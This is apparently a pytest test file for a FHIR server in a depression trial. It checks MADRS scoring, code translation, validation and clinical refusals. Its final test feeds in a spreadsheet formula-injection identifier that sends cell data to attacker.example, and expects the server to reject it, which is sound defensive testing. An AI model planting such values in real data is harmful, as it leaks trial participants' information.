"""The trial's rules on the HTTP write path: scoring, ConceptMap translation, clinical refusals."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from fhir_bridge.services.trial_rules import score_id
from tests.bundle_entries import patch_entry

FHIR = {"Content-Type": "application/fhir+json"}
MESSAGES = Path(__file__).resolve().parents[2] / "examples" / "messages"
ASSESSMENT = "https://fhir-bridge.org/fhir/CodeSystem/assessment"


@pytest.fixture(autouse=True)
def referred_to(client: TestClient) -> None:
    """The participants and visit that the example messages and these tests refer to (the
    server publishes the study itself): references must name stored resources."""
    ehr_class = {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"}
    for resource in (
        {"resourceType": "Patient", "id": "example-participant-01"},
        {"resourceType": "Patient", "id": "p1"},
        {
            "resourceType": "Encounter",
            "id": "example-baseline-visit",
            "status": "finished",
            "class": ehr_class,
            "subject": {"reference": "Patient/example-participant-01"},
        },
    ):
        url = f"/fhir/{resource['resourceType']}/{resource['id']}"
        assert client.put(url, json=resource, headers=FHIR).status_code == 201


@pytest.fixture
def madrs_response() -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads((MESSAGES / "madrs-response.json").read_text())
    return loaded


def errors(response: Any) -> list[tuple[str, list[str]]]:
    return [
        (i["code"], i.get("expression", []))
        for i in response.json()["issue"]
        if i["severity"] == "error"
    ]


def test_response_is_scored_in_the_same_transaction(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    created = client.post("/fhir/QuestionnaireResponse", json=madrs_response, headers=FHIR)
    assert created.status_code == 201, created.text
    qr_id = created.json()["id"]
    found = client.get(f"/fhir/Observation?derived-from=QuestionnaireResponse/{qr_id}").json()
    [score] = [e["resource"] for e in found["entry"]]
    items = [item["answer"][0]["valueInteger"] for item in madrs_response["item"]]
    assert score["code"]["coding"][0] == {
        "system": ASSESSMENT,
        "code": "madrs-total",
        "display": "MADRS total score",
    }
    assert score["valueQuantity"]["value"] == sum(items)
    assert [c["valueInteger"] for c in score["component"]] == items
    assert score["encounter"] == madrs_response["encounter"]
    assert score["category"][0]["coding"][0]["code"] == "survey"


def test_amended_response_updates_its_score_instead_of_adding_one(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    created = client.post("/fhir/QuestionnaireResponse", json=madrs_response, headers=FHIR).json()
    amended = {**created, "status": "amended"}
    amended["item"] = copy.deepcopy(created["item"])
    amended["item"][0]["answer"][0]["valueInteger"] = 6
    assert (
        client.put(
            f"/fhir/QuestionnaireResponse/{created['id']}", json=amended, headers=FHIR
        ).status_code
        == 200
    )
    found = client.get(
        f"/fhir/Observation?derived-from=QuestionnaireResponse/{created['id']}"
    ).json()
    [score] = [e["resource"] for e in found["entry"]]
    assert score["meta"]["versionId"] == "2"
    assert score["component"][0]["valueInteger"] == 6


def test_item_out_of_range_is_refused_naming_the_answer(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    madrs_response["item"][3]["answer"][0]["valueInteger"] = 7
    response = client.post("/fhir/QuestionnaireResponse", json=madrs_response, headers=FHIR)
    assert response.status_code == 422
    assert ("value", ["QuestionnaireResponse.item[3].answer[0].valueInteger"]) in errors(response)
    assert client.get("/fhir/Observation?_summary=count").json()["total"] == 0


def test_answer_for_an_unknown_item_is_refused(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    madrs_response["item"].append({"linkId": "11", "answer": [{"valueInteger": 1}]})
    response = client.post("/fhir/QuestionnaireResponse", json=madrs_response, headers=FHIR)
    assert response.status_code == 422
    assert any(expr == ["QuestionnaireResponse.item[10].linkId"] for _, expr in errors(response))


def test_total_that_is_not_the_sum_of_items_is_refused(client: TestClient) -> None:
    observation = json.loads((MESSAGES / "local-coded-observation.json").read_text())
    observation["valueQuantity"]["value"] += 1
    response = client.post("/fhir/Observation", json=observation, headers=FHIR)
    assert response.status_code == 422
    assert any(code == "invariant" for code, _ in errors(response))


def test_local_codes_are_translated_and_the_original_kept(client: TestClient) -> None:
    observation = json.loads((MESSAGES / "local-coded-observation.json").read_text())
    created = client.post("/fhir/Observation", json=observation, headers=FHIR)
    assert created.status_code == 201, created.text
    codings = created.json()["code"]["coding"]
    assert {(c["system"], c["code"]) for c in codings} >= {
        (ASSESSMENT, "madrs-total"),
        ("http://ehr.example.org/fhir/CodeSystem/local-assessment", "MADRS-TOT"),
    }
    found = client.get(f"/fhir/Observation?code={ASSESSMENT}|madrs-total").json()
    assert len(found["entry"]) == 1


@pytest.mark.parametrize("escaped", [False, True], ids=["plain", "escaped-slashes"])
def test_local_codes_in_a_transaction_are_translated_however_the_body_spells_them(
    client: TestClient, escaped: bool
) -> None:
    observation = json.loads((MESSAGES / "local-coded-observation.json").read_text())
    entry = {"resource": observation, "request": {"method": "POST", "url": "Observation"}}
    body = json.dumps({"resourceType": "Bundle", "type": "transaction", "entry": [entry]})
    if escaped:  # the same JSON value: the local system's bytes no longer occur in it
        body = body.replace("/", "\\/")
    response = client.post("/fhir", content=body.encode(), headers=FHIR)
    assert response.status_code == 200, response.text
    found = client.get(f"/fhir/Observation?code={ASSESSMENT}|madrs-total").json()
    assert len(found["entry"]) == 1


def test_a_transaction_patch_gets_the_translation_and_the_trial_checks(client: TestClient) -> None:
    # the patch is base64 in a Binary: the local system it writes is not in the body's text
    observation = json.loads((MESSAGES / "local-coded-observation.json").read_text())
    local = observation["code"]["coding"]
    project = {**observation, "code": {"coding": [{"system": ASSESSMENT, "code": "madrs-total"}]}}
    created = client.post("/fhir/Observation", json=project, headers=FHIR).json()
    url = f"Observation/{created['id']}"

    def patched(*ops: dict[str, Any]) -> Any:
        entry = patch_entry(url, json.dumps(ops).encode())
        bundle = {"resourceType": "Bundle", "type": "transaction", "entry": [entry]}
        return client.post("/fhir", json=bundle, headers=FHIR)

    out_of_range = {"op": "replace", "path": "/valueQuantity/value", "value": 99}
    local_code = {"op": "replace", "path": "/code/coding", "value": local}
    assert patched(local_code, out_of_range).status_code == 422
    assert patched(local_code).status_code == 200
    found = client.get(f"/fhir/Observation?code={ASSESSMENT}|madrs-total").json()
    codings = found["entry"][0]["resource"]["code"]["coding"]
    assert {(c["system"], c["code"]) for c in codings} == {
        (ASSESSMENT, "madrs-total"),
        (local[0]["system"], local[0]["code"]),
    }


def test_visit_outside_the_protocol_is_refused(client: TestClient) -> None:
    encounter = {
        "resourceType": "Encounter",
        "status": "finished",
        "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"},
        "type": [
            {
                "coding": [
                    {"system": "https://fhir-bridge.org/fhir/CodeSystem/visit", "code": "dosing-3"}
                ]
            }
        ],
        "subject": {"reference": "Patient/p1"},
    }
    response = client.post("/fhir/Encounter", json=encounter, headers=FHIR)
    assert response.status_code == 422, response.text
    assert errors(response)


def test_validate_operation_reports_without_storing(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    madrs_response["item"][0]["answer"][0]["valueInteger"] = 9
    parameters = {
        "resourceType": "Parameters",
        "parameter": [
            {"name": "resource", "resource": madrs_response},
            {"name": "mode", "valueCode": "create"},
        ],
    }
    response = client.post("/fhir/QuestionnaireResponse/$validate", json=parameters, headers=FHIR)
    assert response.status_code == 200
    assert ("value", ["QuestionnaireResponse.item[0].answer[0].valueInteger"]) in errors(response)
    assert client.get("/fhir/QuestionnaireResponse?_summary=count").json()["total"] == 0


def test_validate_operation_against_a_named_profile(client: TestClient) -> None:
    observation = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"text": "something else"},
    }
    parameters = {
        "resourceType": "Parameters",
        "parameter": [
            {"name": "resource", "resource": observation},
            {
                "name": "profile",
                "valueUri": "https://fhir-bridge.org/fhir/StructureDefinition/madrs-observation",
            },
        ],
    }
    response = client.post("/fhir/Observation/$validate", json=parameters, headers=FHIR)
    assert response.status_code == 200
    assert errors(response), response.text
    plain = client.post("/fhir/Observation/$validate", json=observation, headers=FHIR)
    assert not errors(plain), plain.text


def test_published_profiles_are_served_by_url(client: TestClient) -> None:
    url = "https://fhir-bridge.org/fhir/StructureDefinition/madrs-observation"
    found = client.get(f"/fhir/StructureDefinition?url={url}").json()
    [profile] = [e["resource"] for e in found["entry"]]
    assert profile["snapshot"]["element"] and profile["differential"]["element"]
    statement = client.get("/fhir/metadata").json()
    observation = next(r for r in statement["rest"][0]["resource"] if r["type"] == "Observation")
    assert url in observation["supportedProfile"]


def test_validate_operation_checks_a_whole_bundle(client: TestClient) -> None:
    bundle = json.loads((MESSAGES / "dosing-session.json").read_text())
    assert not errors(client.post("/fhir/Bundle/$validate", json=bundle, headers=FHIR))
    bundle["entry"][0]["fullUrl"] = bundle["entry"][1]["fullUrl"]
    response = client.post("/fhir/Bundle/$validate", json=bundle, headers=FHIR)
    assert response.status_code == 200
    assert errors(response), response.text


def test_withdrawn_research_subject_stays_withdrawn(client: TestClient) -> None:
    subject = {
        "resourceType": "ResearchSubject",
        "status": "withdrawn",
        "study": {"reference": "ResearchStudy/psykforsk-mat-mdd"},
        "individual": {"reference": "Patient/p1"},
    }
    created = client.post("/fhir/ResearchSubject", json=subject, headers=FHIR).json()
    back = {**created, "status": "on-study"}
    response = client.put(f"/fhir/ResearchSubject/{created['id']}", json=back, headers=FHIR)
    assert response.status_code == 422
    assert errors(response) == [("business-rule", ["ResearchSubject.status"])]
    # $validate in update mode finds what the update would refuse
    check = f"/fhir/ResearchSubject/{created['id']}/$validate?mode=update"
    assert errors(client.post(check, json=back, headers=FHIR)) == errors(response)
    other_id = client.post(check, json={**back, "id": "other"}, headers=FHIR)
    assert errors(other_id) == [("invalid", ["ResearchSubject.id"])]
    moving_on = {**created, "status": "withdrawn", "period": {"end": "2024-01-01"}}
    assert not errors(client.post(check, json=moving_on, headers=FHIR))
    assert (
        client.put(
            f"/fhir/ResearchSubject/{created['id']}", json=moving_on, headers=FHIR
        ).status_code
        == 200
    )


def test_scoring_never_overwrites_an_unrelated_resource(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    taken = score_id("q1")
    unrelated = {
        "resourceType": "Observation",
        "id": taken,
        "status": "final",
        "code": {"text": "lab"},
    }
    assert client.put(f"/fhir/Observation/{taken}", json=unrelated, headers=FHIR).status_code == 201
    response = client.put(
        "/fhir/QuestionnaireResponse/q1", json={**madrs_response, "id": "q1"}, headers=FHIR
    )
    assert response.status_code == 409
    assert client.get(f"/fhir/Observation/{taken}").json()["code"] == {"text": "lab"}
    assert client.get("/fhir/QuestionnaireResponse/q1").status_code == 404


def test_response_with_a_64_character_id_is_scored(
    client: TestClient, madrs_response: dict[str, Any]
) -> None:
    long_id = "q" * 64
    response = client.put(
        f"/fhir/QuestionnaireResponse/{long_id}",
        json={**madrs_response, "id": long_id},
        headers=FHIR,
    )
    assert response.status_code == 201, response.text
    found = client.get(f"/fhir/Observation?derived-from=QuestionnaireResponse/{long_id}").json()
    assert len(found["entry"]) == 1


def test_validate_takes_profile_and_mode_from_the_url(client: TestClient) -> None:
    patient = {"resourceType": "Patient", "gender": "male"}
    url = "/fhir/Patient/$validate?profile=https://fhir-bridge.org/fhir/StructureDefinition/trial-patient"
    assert errors(client.post(url, json=patient, headers=FHIR))
    assert not errors(client.post("/fhir/Patient/$validate", json=patient, headers=FHIR))
    bad_mode = client.post("/fhir/Patient/$validate?mode=sideways", json=patient, headers=FHIR)
    assert bad_mode.status_code == 400
    # mode=profile (ResourceValidationMode): against the profile named, which it needs
    assert errors(client.post(f"{url}&mode=profile", json=patient, headers=FHIR))
    alone = client.post("/fhir/Patient/$validate?mode=profile", json=patient, headers=FHIR)
    assert alone.status_code == 200 and errors(alone) == [("required", ["profile"])]


@pytest.mark.parametrize("method", ["POST", "PUT"])
def test_research_subject_with_a_bad_study_subject_id_is_refused(
    client: TestClient, method: str
) -> None:
    subject = {
        "resourceType": "ResearchSubject",
        "identifier": [
            {
                "system": "https://fhir-bridge.org/fhir/sid/study-subject",
                "value": '=HYPERLINK("http://attacker.example/?leak="&C2,"open")',
            }
        ],
        "status": "on-study",
        "study": {"reference": "ResearchStudy/s1"},
        "individual": {"reference": "Patient/p1"},
    }
    if method == "POST":
        response = client.post("/fhir/ResearchSubject", json=subject, headers=FHIR)
    else:
        response = client.put(
            "/fhir/ResearchSubject/rs1", json={**subject, "id": "rs1"}, headers=FHIR
        )
    assert response.status_code == 422, response.text
    assert errors(response) == [("value", ["ResearchSubject.identifier[0].value"])]
